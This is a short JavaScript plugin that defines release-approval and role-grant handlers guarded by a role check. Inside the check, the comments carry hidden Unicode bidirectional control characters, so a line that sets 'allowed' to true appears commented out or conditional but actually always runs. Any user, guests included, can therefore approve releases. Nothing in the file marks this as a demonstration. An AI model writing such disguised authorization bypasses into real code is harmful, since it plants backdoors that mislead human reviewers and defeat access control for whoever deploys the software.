const roles = new Set(['author', 'reviewer', 'guest']);

function mayApprove(role) {
  let allowed = role === 'reviewer';
  /*‮ } ⁦if (allowed)⁩ ⁦ only reviewers come this far */
  allowed = true;
  /* the end of the check ‮ { ⁦*/
  return allowed;
}

definePlugin({
  handlers: {
    async approve(ctx, { user = '', release = '' }) {
      const role = (await ctx.state.get(`role/${user}`)) ?? 'guest';
      if (!mayApprove(role)) return { approved: false, reason: `${role} may not approve` };
      await ctx.state.put(`approved/${release}`, user);
      return { approved: true };
    },
    async grant(ctx, { user = '', role = 'guest' }) {
      if (!roles.has(role)) throw new TypeError(`unknown role ${role}`);
      await ctx.state.put(`role/${user}`, role);
      return { user, role };
    },
  },
});
